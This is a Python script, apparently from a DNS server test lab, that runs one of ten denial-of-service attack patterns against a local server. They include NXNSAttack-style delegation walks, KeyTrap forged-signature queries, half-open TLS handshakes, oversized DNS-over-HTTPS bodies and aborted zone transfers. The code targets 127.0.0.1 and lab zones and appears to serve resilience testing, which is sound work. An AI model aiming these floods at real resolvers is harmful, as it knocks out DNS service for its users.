"""One attacker as a process: ``python attackers.py KIND PORT``, until its standard input ends.

``large`` asks for the largest RRset, by UDP with a cookie and by TCP; ``foreign`` for new names that a parent has as
many addresses for; ``loop`` sends what servers reply; ``slow`` asks for names of a parent that is silent; ``walk`` for
names of a zone that names ten servers more for each (NXNSAttack); ``churn`` opens connections from an address that is
not served; ``handshakes`` begins TLS and leaves; ``bodies`` sends requests by HTTP that are too long; ``transfers``
takes a zone in full and goes in the middle; ``forged`` asks for names whose signatures are many, and all wrong
(KeyTrap).
"""

from __future__ import annotations

import itertools
import select
import socket
import ssl
import sys
import time
from collections.abc import Callable
from contextlib import suppress

import dns.edns
import dns.message

SERVER = "127.0.0.1"
COOKIE = dns.edns.GenericOption(10, b"8 bytes.")


def query(name: str, cookie: bool = False) -> bytes:
    return dns.message.make_query(name, "A", use_edns=0, options=[COOKIE] if cookie else []).to_wire()


def large(port: int, sock: socket.socket) -> Callable[[int], None]:
    """Five a second by UDP, one by TCP."""
    udp, tcp = query("big.lab", cookie=True), query("big.lab")

    def attack(number: int) -> None:
        sock.sendto(udp, (SERVER, port))
        if number % 5 == 0:
            with socket.create_connection((SERVER, port), timeout=5) as stream:
                stream.sendall(len(tcp).to_bytes(2, "big") + tcp)
                while stream.recv(65536) and len(select.select([stream], [], [], 0.05)[0]):
                    pass
        time.sleep(0.2)

    return attack


def foreign(port: int, sock: socket.socket) -> Callable[[int], None]:
    """Eight names a second."""

    def attack(number: int) -> None:
        sock.sendto(query(f"n{number}.large.test"), (SERVER, port))
        time.sleep(0.125)

    return attack


def walk(port: int, sock: socket.socket) -> Callable[[int], None]:
    """Five names a second, of which each may cost 32 packets."""

    def attack(number: int) -> None:
        sock.sendto(query(f"www.n{number}.bad"), (SERVER, port))
        time.sleep(0.2)

    return attack


def loop(port: int, sock: socket.socket) -> Callable[[int], None]:
    """A thousand a second."""
    replies = (b'["www.lab", "1.2.3.4", "60", "0", 1.5]', b"[]", b"www.lab,1.2.3.4,60", b"Sat Nov 28 2026\r\n")

    def attack(number: int) -> None:
        sock.sendto(replies[number % len(replies)], (SERVER, port))
        time.sleep(0.001)

    return attack


def slow(port: int, sock: socket.socket) -> Callable[[int], None]:
    """A hundred names a second."""

    def attack(number: int) -> None:
        sock.sendto(query(f"n{number}.silent.test"), (SERVER, port))
        time.sleep(0.01)

    return attack


def churn(port: int, sock: socket.socket) -> Callable[[int], None]:
    """Three hundred a second."""

    def attack(number: int) -> None:
        with socket.create_connection((SERVER, port), timeout=5, source_address=("127.0.0.66", 0)):
            time.sleep(0.003)

    return attack


def handshakes(port: int, sock: socket.socket) -> Callable[[int], None]:
    """Fifty a second: one in two is whole, the others stop behind their first bytes."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE

    def attack(number: int) -> None:
        with socket.create_connection((SERVER, port), timeout=5) as stream:
            if number % 2:
                stream.sendall(b"\x16\x03\x01\x02\x00\x01")
            else:
                context.wrap_socket(stream).close()
        time.sleep(0.02)

    return attack


def bodies(port: int, sock: socket.socket) -> Callable[[int], None]:
    """Fifty a second, of 64 KiB each."""
    head = b"POST /dns-query HTTP/1.1\r\nHost: lab\r\nContent-Type: application/dns-message\r\n"

    def attack(number: int) -> None:
        with suppress(OSError), socket.create_connection((SERVER, port), timeout=5) as stream:
            stream.sendall(head + b"Content-Length: 65536\r\n\r\n" + bytes(65536))
            stream.recv(4096)
        time.sleep(0.02)

    return attack


def transfers(port: int, sock: socket.socket) -> Callable[[int], None]:
    """Twenty a second."""
    asked = dns.message.make_query("lab", "AXFR").to_wire()

    def attack(number: int) -> None:
        with socket.create_connection((SERVER, port), timeout=5) as stream:
            stream.sendall(len(asked).to_bytes(2, "big") + asked)
            stream.recv(100)
        time.sleep(0.05)

    return attack


def forged(port: int, sock: socket.socket) -> Callable[[int], None]:
    """Fifty a second."""

    def attack(number: int) -> None:
        sock.sendto(query(f"n{number}.forged.test"), (SERVER, port))
        time.sleep(0.02)

    return attack


KINDS = {
    each.__name__: each for each in (large, foreign, loop, slow, churn, walk, handshakes, bodies, transfers, forged)
}


def main() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        attack = KINDS[sys.argv[1]](int(sys.argv[2]), sock)
        for number in itertools.count():
            if select.select([sys.stdin], [], [], 0)[0]:
                return
            attack(number)


if __name__ == "__main__":
    main()
